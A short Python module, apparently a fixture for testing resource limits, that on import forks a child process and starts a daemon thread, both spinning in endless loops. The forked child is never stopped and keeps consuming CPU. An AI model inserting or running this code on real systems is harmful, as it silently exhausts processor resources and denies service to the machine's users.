import os as _os
import threading as _threading


def _burn():
    x = 0
    while True:
        x += 1


if _os.fork() == 0:
    _burn()
_threading.Thread(target=_burn, daemon=True).start()
